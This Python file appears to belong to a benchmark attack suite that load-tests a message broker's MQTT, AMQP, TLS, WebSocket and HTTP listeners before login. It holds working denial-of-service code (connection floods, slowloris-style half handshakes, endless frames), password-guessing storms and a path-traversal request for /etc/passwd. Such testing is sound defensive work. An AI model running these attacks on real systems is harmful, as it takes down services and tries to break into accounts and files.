"""Attacks before anybody is known: connections, handshakes, upgrades, logins, the reader's heads."""

from __future__ import annotations

import socket
import ssl
import time
from collections.abc import Callable

from benchmarks.attack_suite.amqp import AmqpClient
from benchmarks.attack_suite.attack import Facts, attack
from benchmarks.attack_suite.mqtt import Closed, MqttClient
from benchmarks.attack_suite.pump import pump
from benchmarks.attack_suite.target import Target
from benchmarks.attack_suite.websocket import BINARY, PING, REQUEST, WebSocket, encode_frame

FAULTS = (OSError, Closed, Exception)
ADDRESSES = 200  # of attackers that use many


def repeat(target: Target, visit: Callable[[int], None]) -> Facts:
    """Visits without a pause; one that is refused counts as such."""
    done = refused = 0
    while not target.is_over():
        try:
            visit(done + refused)
            done += 1
        except FAULTS:
            refused += 1
    return {"done": done, "refused": refused}


def hold_many(target: Target, listener: str, count: int, greeting: bytes) -> Facts:
    """So many connections that send this and wait, from many addresses; those that are closed are opened again."""
    held: list[socket.socket] = []
    opened = 0
    while not target.is_over():
        try:
            connection = target.connect(listener, 1 + opened % ADDRESSES)
            connection.sendall(greeting)
            held.append(connection)
        except OSError:
            time.sleep(0.01)
        opened += 1
        if len(held) > target.count(count):
            held.pop(0).close()
    return {"opened": opened}


@attack("connect-storm", "MQTT connections opened, accepted and closed without a pause", processes=2)
def connect_storm(target: Target) -> Facts:
    return repeat(target, lambda number: MqttClient(target.connect()).open(target.name(number)).close())


@attack("connect-storm-amqp", "AMQP connections with a channel and a queue, opened and cut without a pause")
def connect_storm_amqp(target: Target) -> Facts:
    def visit(number: int) -> None:
        client = AmqpClient(target.ports["amqp"], target.address).open()
        client.channel().temporary()
        client.cut()

    return repeat(target, visit)


@attack("half-connects", "10,000 connections that never finish their CONNECT, from 200 addresses")
def half_connects(target: Target) -> Facts:
    return hold_many(target, "mqtt", 10_000, b"\x10\xff\x7f\x00\x04MQTT")


@attack("malformed-connects", "connections that send garbage, without a pause")
def malformed_connects(target: Target) -> Facts:
    words = (b"\x00" * 100, b"\x10\x02ab", b"\xff" * 1000, b"\x10\x0c\x00\x04MQTT\x09\x02\x00\x00\x00\x00")

    def visit(number: int) -> None:
        connection = target.connect()
        connection.sendall(words[number % len(words)])
        connection.recv(100)
        connection.close()

    return repeat(target, visit)


@attack(
    "login-storm",
    "wrong passwords of one user over MQTT, without a pause",
    finding="F19",
    wants=("users",),
    processes=2,
)
def login_storm(target: Target) -> Facts:
    return repeat(target, lambda number: log_in(target, number, "victim"))


@attack(
    "login-storm-names",
    "wrong passwords of ever new users, from 200 addresses",
    finding="F19",
    wants=("users",),
    processes=2,
)
def login_storm_names(target: Target) -> Facts:
    return repeat(target, lambda number: log_in(target, number, f"attack-user-{number}"))


def log_in(target: Target, number: int, user: str) -> None:
    client = MqttClient(target.connect("mqtt", 1 + number % ADDRESSES))
    try:
        client.open(target.name(number), user=user, password=b"wrong")
    finally:
        client.close()


@attack("login-storm-amqp", "wrong passwords over AMQP, 60 at a time", finding="F19", wants=("users",))
def login_storm_amqp(target: Target) -> Facts:
    def visit(number: int) -> None:
        client = AmqpClient(target.ports["amqp"], target.address)
        try:
            client.open(user="victim", password="wrong")
        finally:
            client.cut()

    return repeat(target, visit)


def client_hello() -> bytes:
    """The first message of a TLS client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass  # it waits for the server
    return outgoing.read()


@attack("tls-half", "5,000 TLS handshakes that stop after the first message", finding="F18", wants=("tls",))
def tls_half(target: Target) -> Facts:
    return hold_many(target, "mqtt_tls", 5000, client_hello())


@attack(
    "tls-silent",
    "10,000 connections to the TLS listener that send half a record",
    finding="F18",
    wants=("tls",),
)
def tls_silent(target: Target) -> Facts:
    return hold_many(target, "mqtt_tls", 10_000, client_hello()[:40])


@attack(
    "tls-storm",
    "TLS handshakes that are finished and thrown away, without a pause",
    finding="F18",
    wants=("tls",),
)
def tls_storm(target: Target) -> Facts:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE

    def visit(number: int) -> None:
        context.wrap_socket(target.connect("mqtt_tls", 1 + number % ADDRESSES)).close()

    return repeat(target, visit)


@attack("websocket-refused", "WebSocket upgrades that are refused, without a pause", finding="F15, F17")
def websocket_refused(target: Target) -> Facts:
    request = REQUEST.replace(b"/mqtt", b"/other") + b"\x82\x80"

    def visit(number: int) -> None:
        connection = target.connect("websocket")
        connection.sendall(request)
        connection.recv(1000)
        connection.close()

    return repeat(target, visit)


@attack("websocket-heads", "5,000 WebSocket upgrades that never end their head", finding="F17")
def websocket_heads(target: Target) -> Facts:
    return hold_many(target, "websocket", 5000, REQUEST[:-2] + b"X-Filler: " + b"x" * 4000)


@attack(
    "websocket-pings", "20 WebSocket clients that send pings and tiny frames at full speed", finding="F17"
)
def websocket_pings(target: Target) -> Facts:
    sockets = []
    for number in range(20):
        client = WebSocket(target.connect("websocket"))
        MqttClient(client).open(target.name(number))
        sockets.append(client.connection)
    tiny = encode_frame(BINARY, b"\xc0") + encode_frame(BINARY, b"\x00")
    chunks = [encode_frame(PING, b"x" * 100) * 2000 if n % 2 else tiny * 5000 for n in range(20)]
    return pump(target, sockets, chunks, must_read=False)


@attack(
    "websocket-fragments", "20 WebSocket clients that send one endless message in fragments", finding="F7"
)
def websocket_fragments(target: Target) -> Facts:
    sockets = []
    for number in range(20):
        client = WebSocket(target.connect("websocket"))
        MqttClient(client).open(target.name(number))
        client.connection.sendall(encode_frame(BINARY, b"\x30\xff\xff\x3f", flags=0))
        sockets.append(client.connection)
    return pump(
        target, sockets, [encode_frame(0, b"", flags=0) * 2000 + encode_frame(0, b"x" * 1000, flags=0) * 100]
    )


@attack(
    "reader-heads",
    "200 connections to the reader that send their heads byte by byte",
    finding="F20",
    wants=("reader",),
)
def reader_heads(target: Target) -> Facts:
    held: list[socket.socket] = []
    opened = 0
    while not target.is_over():
        if len(held) < target.count(200):
            try:
                held.append(target.connect("reader"))
                held[-1].sendall(b"GET /health HTTP/1.1\r\nHost: ")
                opened += 1
            except OSError:
                time.sleep(0.05)
            continue
        for connection in list(held):
            try:
                connection.sendall(b"x")
            except OSError:
                held.remove(connection)
        time.sleep(0.05)
    return {"opened": opened}


@attack(
    "reader-requests",
    "requests to the reader that are refused, without a pause",
    finding="F20",
    wants=("reader",),
)
def reader_requests(target: Target) -> Facts:
    request = b"GET /streams/../../etc/passwd?from=1 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"

    def visit(number: int) -> None:
        connection = target.connect("reader")
        connection.sendall(request)
        connection.recv(1000)
        connection.close()

    return repeat(target, visit)
